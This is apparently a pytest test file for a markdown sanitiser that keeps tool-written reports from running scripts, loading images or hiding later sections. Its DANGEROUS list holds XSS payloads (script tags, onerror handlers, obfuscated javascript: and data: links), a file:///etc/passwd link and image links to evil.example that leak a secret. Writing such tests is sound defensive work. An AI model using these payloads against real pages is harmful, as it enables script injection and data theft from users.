"""Markdown of others in a report: nothing in it runs, fetches, or hides the rest of the report."""

import re
from collections.abc import Iterator
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token
from orchestrator_services.tools import markdown
from orchestrator_services.tools.markdown_text import harmless
from orchestrator_services.tools.report import Section


def parser() -> MarkdownIt:
    """A parser that takes every link, as some do."""
    made = MarkdownIt("commonmark", {"html": True}).enable("table")
    made.validateLink = lambda _url: True  # type: ignore[method-assign,assignment]
    return made


def tokens(text: str) -> Iterator[Token]:
    for token in parser().parse(text):
        yield token
        yield from token.children or ()


def check_harmless(text: str) -> None:
    """No HTML but line breaks of our own, no image, and only links that lead somewhere."""
    for token in tokens(text):
        assert token.type not in ("html_block", "image"), token
        assert token.type != "html_inline" or token.content == "<br>", token
        href = str(token.attrGet("href") or "")
        scheme = re.match(r"\s*([A-Za-z][\w+.-]*):", href)
        assert scheme is None or scheme[1].lower() in {"http", "https", "mailto"}, token


DANGEROUS = [
    "<script>alert(1)</script>",
    "x <img src=x onerror=alert(1)> y",
    "<!-- -->",
    "<?php ?>",
    "<![CDATA[x]]>",
    "</div>",
    "<javascript:alert(1)>",
    "<a\nhref=x>",
    "\\\\<b>",
    "![x](https://evil.example/?secret)",
    "![x][1]\n\n[1]: https://evil.example/x.png",
    "\\\\![x](y.png)",
    "[![x](y.png)](z)",
    "[x](javascript:alert(1))",
    "[x](JavaScript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](java&#115;cript:alert(1))",
    "[x](&#x6a;avascript&colon;alert(1))",
    "[x](javascript\\:alert(1))",
    "[x]( \tjavascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:x)",
    "[x](file:///etc/passwd)",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "[1]\n\n> [1]: javascript:alert(1)",
    "[a [x](javascript:b) c](javascript:d)",
    "`<b>` <b> `<i>`",
    "` <b> \n\n ` <script>x</script>",
    "\\` <b> `",
    "`` ` <b> ``<i>",
    "<div>\n```\n<script>x</script>\n```",
    "```\n<b>\n```\n<b>",
    "- ```\n  <b>\n<b>",
    "> ```\n> <b>\n<b>",
    "    <b>\n\n<b>",
    "~~~\n```\n<b>\n~~~\n<script>",
    "| a |\n|---|\n| <b> ![x](y) |",
    "# <b>x</b>",
    "x\n<b>\n===",
]


@pytest.mark.parametrize("text", DANGEROUS)
def test_markdown_of_a_tool_is_harmless(text: str) -> None:
    check_harmless(harmless(text))
    check_harmless(
        markdown(
            title=text, sections=[Section(heading=text, body=text)], figure={"x": text}, more=[text]
        ).markdown
    )


@pytest.mark.parametrize(
    "text",
    [
        "See **below**, [there](https://example.org/a?b=c&d) or <b".removesuffix(" or <b"),
        "a < b, 1 <2 and x<=y",
        "```html\n<script>\n```",
        "`<b>` is a tag, and ``a ` <i>`` too",
        "    <b>indented</b>",
        "- one\n- two\n\n> said!\n\n1. first",
        "| a | b |\n| --- | --- |\n| 1 | 2 |",
        "[mail](mailto:a@example.org), [here](#top), [next](b.md), [site](//example.org)",
        "wow![1] is a note".replace("![", "! ["),
        "Umlaute: ä, 漢字, 👩‍💻",
    ],
)
def test_other_markdown_stays_as_it_is(text: str) -> None:
    assert harmless(text) == text


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("<script>x</script>", "&lt;script>x&lt;/script>"),
        ("![chart](https://x.example/c.png)", "&#33;[chart](https://x.example/c.png)"),
        ("[x](javascript:y)", "&#91;x](javascript:y)"),
        ("a\x1b[2Jb\u202ec\x9bd", "a\ufffd[2Jb\ufffdc\ufffdd"),
        ("a\r\nb\rc", "a\nb\nc"),
        ("```\ncode", "```\ncode\n```"),
    ],
)
def test_what_becomes_of_it(text: str, shown: str) -> None:
    assert harmless(text) == shown


def test_code_that_is_not_closed_does_not_take_the_rest_of_the_report() -> None:
    report = markdown(
        sections=[Section(heading="A", body="```\n<b>"), Section(heading="B", body="```\n<script>\n```")]
    )

    headings = [token for token in parser().parse(report.markdown) if token.type == "heading_open"]
    assert len(headings) == 3
    check_harmless(report.markdown)


PIECES = st.sampled_from(
    [
        *("<", ">", "<b>", "</b>", "<script>", "<!--", "-->", "<?", "<![CDATA["),
        *(
            "`",
            "``",
            "```",
            "~~~",
            "\\",
            "!",
            "[",
            "]",
            "(",
            ")",
            "&",
            '"',
            "=",
            "a",
            " ",
            "\t",
            "\n",
            "\n\n",
        ),
        *("![x](y)", "[x](javascript:y)", "[x]: javascript:y", "javascript:", "data:", "&colon;"),
        *("    ", "- ", "> ", "| ", "|---|", "# "),
    ]
)


@given(st.lists(PIECES, max_size=25).map("".join), st.lists(PIECES, max_size=25).map("".join))
@settings(max_examples=400, deadline=None)
def test_no_text_is_harmful(first: str, second: str) -> None:
    report: Any = markdown(
        sections=[Section(heading=second, body=first), Section(heading=first, body=second)], figure=first
    )

    check_harmless(report.markdown)
